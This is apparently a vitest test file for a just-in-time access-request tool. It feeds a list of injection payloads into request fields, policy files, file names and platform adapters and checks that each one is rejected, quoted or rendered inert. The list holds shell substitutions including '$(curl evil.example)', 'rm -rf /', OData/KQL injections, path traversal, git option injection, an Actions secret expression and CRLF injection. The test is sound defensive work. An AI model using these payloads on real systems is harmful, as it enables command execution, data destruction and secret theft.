/** Shell, OData, KQL, paths, options of git and expressions of Actions in every field that a person writes: a finding, or plain text. */
import { describe, expect, it } from 'vitest';
import { segment } from '../../src/adapters/azure/graph-fields.ts';
import { armScope } from '../../src/adapters/azure/arm.ts';
import { quoted } from '../../src/adapters/azure/graph-fields.ts';
import { repositoryOfRemote } from '../../src/adapters/git/remote.ts';
import { placeFor } from '../../src/core/asking/place.ts';
import { instant, type PersonKey, type ResourceId } from '../../src/core/brand.ts';
import { parsePolicy } from '../../src/core/parse-policy.ts';
import { parseRequest } from '../../src/core/parse-request.ts';
import { forTerminal } from '../../src/core/ledger/narrative.ts';
import { renderFindings } from '../../src/core/render/findings.ts';
import { isRepositoryName } from '../../src/core/schema/words.ts';
import { allSampleFiles, edited, sampleFiles } from '../builders/sample-files.ts';

const PAYLOADS: readonly (readonly [what: string, text: string])[] = [
  ['a shell’s substitution', '$(curl evil.example)'],
  ['a shell’s backticks', '`id`'],
  ['a second command', '; rm -rf /'],
  ['a pipe', '| tee /etc/passwd'],
  ['the end of a string of OData', "' or '1' eq '1"],
  ['the end of a call of OData', "') or true or ('"],
  ['a second parameter of an address', '&$filter=true'],
  ['a clause of KQL', '" | where true //'],
  ['a way up', '../../../orgs/contoso/members'],
  ['an encoded way up', '%2e%2e%2fadmin'],
  ['a way up with a parameter', '..;/admin'],
  ['a query', 'x?recursive=1#'],
  ['an option', '--upload-pack=touch /tmp/x'],
  ['a short option', '-oProxyCommand=x'],
  ['an expression', '${{ secrets.GITHUB_TOKEN }}'],
  ['a template', '{{ 7 * 7 }}'],
  ['an encoded line', 'x%0d%0aSet-Cookie: y'],
  ['the prototype', '__proto__'],
  ['a constructor', 'constructor'],
  ['a command of the runner', '::set-output name=act::merge'],
  ['a mention', '@contoso/everyone'],
];

/** Words that are good names, and must be nothing more to whoever looks them up. */
const PLAIN = /^(?:__proto__|constructor)$/;

const policy = parsePolicy({ commit: undefined, files: sampleFiles });
const GOOD: Readonly<Record<string, string>> = {
  entitlement: 'prod-vm-admin',
  duration: '2h',
  justification: "'Fail over payments-db-02, replication is stuck'",
  ticket: 'CHG0031234',
};
const single = (text: string): string => `'${text.replaceAll("'", "''")}'`;
const request = (fields: Readonly<Record<string, string>>, address = '203.0.113.7'): string =>
  `${Object.entries({ ...GOOD, ...fields })
    .map(([key, value]) => `${key}: ${value}`)
    .join('\n')}\nparameters: { source_ip: ${address} }\n`;
const parse = (text: string, path = 'requests/x.yaml') => parseRequest({ path, text }, policy);

it('the request is good where nothing is put into it', () => {
  expect(parse(request({})).kind).toBe('request');
});

describe.each(['entitlement', 'duration', 'ticket', 'start', 'for', 'extends', 'break_glass'])(
  'in the field %s of a request',
  (field) => {
    it.each(PAYLOADS)('%s is a finding at its place', (_what, text) => {
      const parsed = parse(request({ [field]: single(text) }));
      if (parsed.kind === 'request') throw new Error('taken');
      const line = request({ [field]: single(text) })
        .split('\n')
        .findIndex((each) => each.startsWith(`${field}:`));
      expect(parsed.findings.map((finding) => finding.line)).toContain(line + 1);
    });
  },
);

describe('in the address, in a parameter’s name and in the file’s name', () => {
  it.each(PAYLOADS)('%s is a finding', (_what, text) => {
    expect(parse(request({}, single(text))).kind).toBe('findings');
    expect(parse(request({}).replace('source_ip', single(text))).kind).toBe('findings');
    if (!PLAIN.test(text)) expect(parse(request({}), `requests/${text}.yaml`).kind).toBe('findings');
  });
});

describe('in a justification', () => {
  it.each(PAYLOADS)('%s is text and nothing more', (_what, text) => {
    const justification = `${text} because replication is stuck`;
    const parsed = parse(request({ justification: single(justification) }));
    expect(parsed.kind === 'request' && parsed.request.justification).toBe(justification);
  });
});

/** A text of the policy and what stands around the value in it. */
const FIELDS: readonly (readonly [
  field: string,
  file: string,
  from: string,
  to: (text: string) => string,
])[] = [
  [
    'scope in targets.yaml',
    'targets.yaml',
    'resourceGroups/payments\n',
    (text) => `resourceGroups/${text}\n`,
  ],
  ['login in people.yaml', 'people.yaml', 'github: alice', single],
  ['name of a group', 'people.yaml', '  sre:', (text) => `  ${single(text)}:`],
  ['member of a group', 'people.yaml', 'sre: [alice, dave]', (text) => `sre: [${single(text)}]`],
  ['id of Entra', 'people.yaml', 'entra: 0f2c0000-0000-4000-8000-000000000001', single],
  ['id of GitHub', 'people.yaml', 'github_id: 1001', single],
  ['scope of a role', 'entitlements/prod-vm-admin.yaml', 'scope: target:payments-rg', single],
  ['group of rules', 'entitlements/prod-vm-admin.yaml', 'nsg: target:bastion-nsg', single],
  ['source', 'entitlements/prod-vm-admin.yaml', 'source: param:source_ip', single],
  ['ports', 'entitlements/prod-vm-admin.yaml', 'ports: [443]', (text) => `ports: [${single(text)}]`],
  [
    'network of a parameter',
    'entitlements/prod-vm-admin.yaml',
    'within: [203.0.113.0/24]',
    (text) => `within: [${single(text)}]`,
  ],
  ['owner', 'entitlements/prod-vm-admin.yaml', 'owner: group:payments-owners', single],
  ['environment', 'entitlements/prod-vm-admin.yaml', 'environment: production', single],
  ['name of the entitlement', 'entitlements/prod-vm-admin.yaml', 'entitlement: prod-vm-admin', single],
  ['time zone', 'gatehouse.yaml', 'timezone: Europe/Berlin', single],
];

describe.each(FIELDS)('in the policy, as %s,', (field, name, from, write) => {
  it.each(PAYLOADS.filter(([, text]) => !PLAIN.test(text)))('%s is a finding', (_what, text) => {
    const path = `policies/${name}`;
    const key = /^[a-z_]+: /.exec(from.trim())?.[0] ?? '';
    const put = write === single ? `${key}${single(text)}` : write(text);
    const read = parsePolicy({ commit: undefined, files: edited(allSampleFiles, path, [from, put]) });
    expect(
      read.findings.map(({ file }) => file),
      field,
    ).toContain(path);
    // `entitlements` holds what can be granted: the one that was changed is not among it.
    expect(read.settings === undefined || read.blocked.size > 0).toBe(true);
  });
});

describe('what goes on to a platform', () => {
  it.each(PAYLOADS)('%s is no id of Graph and no segment of a scope', (_what, text) => {
    if (PLAIN.test(text)) return;
    expect(() => segment(text)).toThrow(/is no id/);
    // `@` stands in names of groups, and nothing else of a mention does.
    if (!text.startsWith('@'))
      expect(() => armScope(`/subscriptions/${text}` as ResourceId)).toThrow(/cannot be a scope/);
    expect(isRepositoryName(`contoso/${text}`)).toBe(false);
    expect(repositoryOfRemote(text)).toBeUndefined();
  });

  it.each(PAYLOADS)('%s in the name of a role stays inside its string of OData', (_what, text) => {
    const inside = /^'((?:[^']|'')*)'$/.exec(quoted(text))?.[1];
    expect(inside?.replaceAll("''", "'")).toBe(text);
  });

  it.each(PAYLOADS)(
    '%s makes neither a path nor a branch that git would take for an option',
    (_what, text) => {
      const { path, branch } = placeFor(
        { entitlement: text, requester: text as PersonKey, text, at: instant(0) },
        () => false,
      );
      expect(path).toMatch(/^requests\/[a-z0-9-]{1,80}\.yaml$/);
      expect(branch).toMatch(/^request\/[a-z0-9-]+$/);
    },
  );
});

describe('on a terminal, which may be that of a workflow,', () => {
  const command = '##[set-output name=act;]merge';

  it('a finding shows a command of the runner without being one', () => {
    const file = { path: 'requests/x.yaml', text: request({ duration: `60 ${command}` }) };
    const parsed = parseRequest(file, policy);
    if (parsed.kind === 'request') throw new Error('taken');
    const shown = renderFindings(parsed.findings, [file]);
    expect(shown).toContain('set-output');
    expect(shown).not.toMatch(/##\[|^\s*::/m);
  });

  it('an event of the ledger shows a command of the runner without being one', () => {
    expect(forTerminal(`requested: alice, ${command}`)).not.toMatch(/##\[|^\s*::/m);
  });
});
